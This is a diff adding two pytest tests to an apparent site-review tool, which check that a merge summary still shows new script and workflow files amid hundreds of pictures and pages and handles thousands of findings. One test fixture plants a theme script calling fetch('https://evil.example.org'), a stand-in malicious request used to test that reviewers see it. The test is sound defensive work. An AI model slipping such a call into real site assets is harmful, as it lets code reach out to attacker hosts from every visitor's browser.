@@ -58,6 +58,39 @@ def test_an_approver_reads_in_the_summary_what_merging_publishes(tmp_path: Path)
     assert "can be said once every file can be read" in (tmp_path / "broken.md").read_text("utf-8")
 
 
+def test_no_number_of_pictures_and_pages_hides_a_program_from_the_approver(tmp_path: Path) -> None:
+    commit_all(base_site(tmp_path))
+    pictures = {f"catalog/images/a{number}.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>" for number in range(150)}
+    pages = {f"pages/a{number}.md": "# A\n" + "A long line of prose.\n" * 2000 for number in range(60)}
+    program = {"theme/assets/z.js": "fetch('https://evil.example.org')\n", ".github/workflows/z.yml": "on: push\n"}
+    write_folder(tmp_path, pictures | pages | program)
+    plaudit("check", "--since", "main", "--format", "github", folder=tmp_path, GITHUB_STEP_SUMMARY="summary.md")
+    summary = (tmp_path / "summary.md").read_text("utf-8")
+    assert len(summary.encode()) < 1_000_000
+    rows = [line for line in summary.splitlines() if line.startswith("| ")]
+    assert rows[1:3] == [
+        "| new theme file | theme/assets/z.js | every page |",
+        "| new other file | .github/workflows/z.yml | runs when the site is built |",
+    ]
+    assert "and 12 more: 12 pictures" in summary
+    assert "+fetch('https://evil.example.org')" in summary
+    assert "+on: push" in summary
+    assert summary.count("more lines left out") == 60
+    assert "#### new picture: catalog/images/a149.svg" in summary
+
+
+def test_many_findings_leave_room_for_what_is_published(tmp_path: Path) -> None:
+    commit_all(base_site(tmp_path))
+    items = "".join(f"  - missing-credential-{number}-{'x' * 40}\n" for number in range(9000))
+    write_folder(tmp_path, {"catalog/stacks/path.yml": f"name: Path\nsummary: A path.\nall_of:\n{items}"})
+    plaudit("check", "--since", "main", "--format", "github", folder=tmp_path, GITHUB_STEP_SUMMARY="summary.md")
+    summary = (tmp_path / "summary.md").read_text("utf-8")
+    shown = summary.count("there is no credential `missing")
+    assert shown > 1000
+    assert f"and {9000 - shown:,} more, which `plaudit check` prints" in summary
+    assert "| changed stack | Path | <https://credentials.test.example.org/stacks/path/> |" in summary
+
+
 def test_the_ten_annotations_that_github_shows_are_those_on_touched_lines(tmp_path: Path) -> None:
     old = "".join(f"  - {{name: A{n}, kind: video, url: http://x.example.org/{n}}}\n" for n in range(15))
     award = "credential: talk@1\nawarded: 2026-05-14\nresults: {moves: demonstrated, time: demonstrated}\n"
